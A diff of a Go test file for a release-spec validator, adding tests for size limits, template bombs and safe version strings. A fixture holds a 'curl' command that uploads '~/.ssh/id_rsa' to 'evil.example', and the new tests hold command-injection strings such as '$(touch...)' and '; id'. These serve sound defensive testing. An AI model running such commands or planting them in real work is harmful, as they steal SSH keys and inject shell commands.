@@ -3,6 +3,7 @@ package spec
 import (
 	"encoding/json"
 	"errors"
+	"strings"
 	"testing"
 	"time"
 
@@ -214,7 +215,8 @@ func TestInlineLifecycleSettingsAreRejected(t *testing.T) {
 		"flags":{"names":["f"],"provider":{"type":"http","url":"https://flags/{{.Flag}}","headers":{"Authorization":"Bearer s3cret"}}},
 		"prechecks":[{"name":"a","http":{"url":"https://registry/{{.Version}}","headerEnv":{"Authorization":"TEMPORAL_API_KEY"}}},
 		             {"name":"b","exec":{"command":"curl -d @$HOME/.ssh/id_rsa https://evil.example"}}],
-		"tag":{"repo":"/srv/git/checkout","push":true,"remote":"https://evil.example/x.git"}}`
+		"tag":{"repo":"/srv/git/checkout","push":true,"remote":"https://evil.example/x.git"},
+		"analysis":{"prometheus":{"address":"https://admin:hunter2@prometheus.internal"}}}`
 	var r Release
 	require.NoError(t, json.Unmarshal([]byte(old), &r))
 	err := r.WithDefaults().Validate()
@@ -230,7 +232,7 @@ func TestInlineLifecycleSettingsAreRejected(t *testing.T) {
 	}
 	js, err := json.Marshal(r)
 	require.NoError(t, err)
-	for _, secret := range []string{"hooks.slack.com", "s3cret", "id_rsa", "TEMPORAL_API_KEY", "evil.example"} {
+	for _, secret := range []string{"hooks.slack.com", "s3cret", "id_rsa", "TEMPORAL_API_KEY", "evil.example", "hunter2"} {
 		assert.NotContains(t, string(js), secret, "decoded spec keeps %q", secret)
 	}
 	assert.Equal(t, []string{"", "releases"}, r.Notifications, "the structure is kept for replay")
@@ -263,5 +265,82 @@ tag: {repo: checkout-git}
 	d.Analysis = Analysis{Disabled: true, Interval: DefaultInterval, FailureLimit: 1, InconclusiveLimit: 1}
 	for _, u := range d.Uses() {
 		assert.NotEqual(t, "analysis.source", u.Path, "a disabled analysis names no source")
+	}
+}
+
+// A spec that arrives in the workflow (decoded by the SDK from a start request the raw Temporal CLI may
+// have sent) is held to the same size bound as a spec file.
+func TestOversizedSpecIsRejectedHoweverItArrives(t *testing.T) {
+	r, err := Parse([]byte(minimal))
+	require.NoError(t, err)
+	r.Description = strings.Repeat("x", MaxSpecBytes)
+	b, err := json.Marshal(r)
+	require.NoError(t, err)
+	var got Release
+	require.NoError(t, json.Unmarshal(b, &got))
+	err = got.WithDefaults().Validate()
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "larger than the limit of 1048576 bytes")
+}
+
+func TestReadStopsAtTheLimit(t *testing.T) {
+	_, err := Read(endless{})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "larger than the limit of 1048576 bytes")
+	data, err := Read(strings.NewReader(minimal))
+	require.NoError(t, err)
+	assert.Equal(t, minimal, string(data))
+}
+
+type endless struct{}
+
+func (endless) Read(p []byte) (int, error) { return len(p), nil }
+
+// Validation (which the CLI, the starter and the workflow run) refuses template bombs before any worker
+// renders them.
+func TestValidateRefusesTemplateBombs(t *testing.T) {
+	r, err := Parse([]byte(minimal))
+	require.NoError(t, err)
+	r.Analysis.Checks = []Check{{Name: "bomb", Query: `up{x="{{range 30000000}}x{{end}}"}`, Max: new(float64)}}
+	err = r.WithDefaults().Validate()
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "analysis.checks[0].query: template does not parse")
+	assert.Contains(t, err.Error(), "larger than the limit of 100000")
+}
+
+// Versions reach shell commands, URLs, queries and tag names: validation keeps them to a safe alphabet.
+func TestVersionsAreValidatedToASafeAlphabet(t *testing.T) {
+	for _, bad := range []string{
+		`v2$(touch${IFS}/tmp/x)`,
+		`v1"; touch /tmp/x; echo "`,
+		"v1`id`",
+		"v1;id",
+		"v1 v2",
+		"v1\nid",
+		"../../etc",
+		"-v2",
+		strings.Repeat("v", 129),
+	} {
+		for _, field := range []string{"version", "previousVersion"} {
+			r, err := Parse([]byte(minimal))
+			require.NoError(t, err)
+			if field == "version" {
+				r.Version = bad
+			} else {
+				r.PreviousVersion = bad
+			}
+			err = r.WithDefaults().Validate()
+			require.Error(t, err, "%s %q", field, bad)
+			var verr *ValidationError
+			require.ErrorAs(t, err, &verr)
+			assert.Equal(t, field, verr.Problems[0].Path, "%q", bad)
+			assert.Contains(t, verr.Problems[0].Message, "letters, digits", "%q", bad)
+		}
+	}
+	for _, good := range []string{"v2", "2.4.0", "1.4.0-rc.1+build.7", "v2_hotfix", "3f9c2ab", strings.Repeat("v", 128)} {
+		r, err := Parse([]byte(minimal))
+		require.NoError(t, err)
+		r.Version, r.PreviousVersion = good, "v0"
+		assert.NoError(t, r.WithDefaults().Validate(), good)
 	}
 }
